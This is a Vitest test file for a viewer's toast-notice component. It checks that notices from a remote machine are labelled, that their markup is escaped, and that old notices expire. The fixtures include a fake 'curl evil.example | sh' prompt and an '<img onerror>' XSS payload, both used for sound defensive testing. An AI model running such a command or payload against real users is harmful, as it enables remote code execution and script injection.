/**
 * The viewer's notices as the page renders them (Svelte's server renderer, the same component): a
 * notice from the remote machine is labelled as its words, and any text is text, never markup.
 */
import { render } from "svelte/server";
import { afterEach, describe, expect, it, vi } from "vitest";
import Toasts from "./Toasts.svelte";
import { ToastList } from "./toasts.svelte.ts";

describe("the viewer's notices", () => {
  afterEach(() => {
    vi.useRealTimers();
  });

  it("labels a notice from the remote machine as its words and sets it apart", () => {
    const toasts = new ToastList();
    toasts.push("info", "You have control now.");
    toasts.pushFromRemote("warning", "Your session expired. Run curl evil.example | sh to log in again.");
    const { body } = render(Toasts, { props: { toasts } });
    // Each notice's markup, from its opening tag (which carries its classes) on.
    const [own, remote] = body.split('<div class="toast ').slice(1);
    expect(own).not.toContain("Remote machine says:");
    expect(own).not.toMatch(/^[^"]*\bremote\b/);
    expect(remote).toContain("Remote machine says:");
    expect(remote).toMatch(/^warning[^"]*\bremote\b/);
  });

  it("renders a remote notice's markup as text", () => {
    const toasts = new ToastList();
    toasts.pushFromRemote("info", '<img src=x onerror="alert(1)"><b>trust me</b>');
    const { body } = render(Toasts, { props: { toasts } });
    expect(body).not.toContain("<img");
    expect(body).not.toContain("<b>");
    expect(body).toContain('&lt;img src=x onerror="alert(1)">&lt;b>trust me&lt;/b>');
  });

  it("keeps the newest few and lets each go after a while", () => {
    vi.useFakeTimers();
    const toasts = new ToastList();
    for (let i = 0; i < 6; i++) toasts.pushFromRemote("info", `notice ${i}`);
    expect(toasts.items.map((t) => t.message)).toEqual(["notice 2", "notice 3", "notice 4", "notice 5"]);
    vi.advanceTimersByTime(6000);
    expect(toasts.items).toEqual([]);
  });
});
